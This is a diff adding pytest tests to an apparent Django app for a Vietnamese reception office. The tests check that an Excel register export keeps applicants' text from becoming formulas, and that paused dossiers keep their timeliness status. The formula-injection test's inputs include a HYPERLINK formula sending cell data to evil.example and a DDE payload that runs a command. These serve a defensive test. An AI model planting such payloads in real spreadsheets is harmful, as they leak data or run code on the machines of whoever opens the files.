@@ -6,6 +6,7 @@ import shutil
 import subprocess
 import unicodedata
 from io import BytesIO
+from zipfile import ZipFile
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -816,3 +817,110 @@ def test_register_counts_only_what_the_officer_sees(people):
 
     assert [row.agency for row in rows] == ["Ủy ban nhân dân Phường Hạc Thành"]
     assert (totals.received, totals.by_channel["postal"]) == (1, 0)
+
+
+def register_sheet(client, people) -> bytes:
+    client.force_login(people.reception)
+    response = client.get(
+        reverse("reception:documents:register-xlsx"), {**MARCH, "point": people.point.pk}
+    )
+    assert response.status_code == 200
+    return response.content
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "+84 912 345 678",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ],
+)
+def test_register_xlsx_never_turns_the_applicants_text_into_a_formula(client, people, typed):
+    people.dossier(
+        Status.RECEIVED,
+        applicant_name=typed,
+        applicant_address=typed,
+        applicant_phone="",
+        received_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
+    )
+    people.dossier(
+        Status.RECEIVED,
+        code="H56.HT-260304-0001",
+        applicant_name="Lê Văn Tâm",
+        received_at=dt.datetime(2026, 3, 4, 9, 0, tzinfo=VN),
+    )
+
+    content = register_sheet(client, people)
+
+    with ZipFile(BytesIO(content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+    assert "<f " not in xml
+    sheet = load_workbook(BytesIO(content)).active
+    name, contact = sheet["E5"], sheet["F5"]
+    assert (name.value, name.data_type, name.quotePrefix) == (typed, "s", True)
+    assert (contact.value, contact.data_type, contact.quotePrefix) == (typed, "s", True)
+    plain = sheet["E6"]
+    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Lê Văn Tâm", "s", False)
+
+
+def test_register_xlsx_keeps_a_carriage_return_start_as_text(client, people):
+    people.dossier(
+        Status.RECEIVED,
+        applicant_name="\r=1+1",
+        received_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
+    )
+
+    sheet = load_workbook(BytesIO(register_sheet(client, people))).active
+
+    # XML reads a bare carriage return back as a line feed: the text is otherwise exact.
+    assert sheet["E5"].value in {"\r=1+1", "\n=1+1"}
+    assert (sheet["E5"].data_type, sheet["E5"].quotePrefix) == ("s", True)
+
+
+def test_register_a_paused_dossier_keeps_the_timeliness_it_had_when_paused(client, people):
+    from reception.documents.register import Totals, register_dossiers, register_rows
+
+    due = dt.datetime(2026, 3, 5, 17, 0, tzinfo=VN)
+    people.dossier(  # asked for a supplement on 3 March, before its due time
+        Status.SUPPLEMENT_REQUESTED,
+        code="H56.HT-260302-0001",
+        received_at=dt.datetime(2026, 3, 2, 9, 0, tzinfo=VN),
+        due_at=due,
+        paused_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
+    )
+    people.dossier(  # paused on 6 March, already late
+        Status.FINANCIAL_OBLIGATION,
+        code="H56.HT-260302-0002",
+        received_at=dt.datetime(2026, 3, 2, 10, 0, tzinfo=VN),
+        due_at=due,
+        paused_at=dt.datetime(2026, 3, 6, 9, 0, tzinfo=VN),
+    )
+    people.dossier(  # still running, late
+        Status.IN_PROCESS,
+        code="H56.HT-260302-0003",
+        received_at=dt.datetime(2026, 3, 2, 11, 0, tzinfo=VN),
+        due_at=due,
+    )
+
+    with at(2026, 3, 20, 9, 0):
+        rows = list(
+            register_rows(
+                register_dossiers(
+                    user=people.reception,
+                    point=people.point,
+                    start=dt.date(2026, 3, 1),
+                    end=dt.date(2026, 3, 31),
+                ),
+                Totals(),
+            )
+        )
+
+    assert [(row.code, row.note) for row in rows] == [
+        ("H56.HT-260302-0001", "Chờ bổ sung hồ sơ"),
+        ("H56.HT-260302-0002", "Chờ thực hiện nghĩa vụ tài chính; Quá hạn"),
+        ("H56.HT-260302-0003", "Quá hạn"),
+    ]
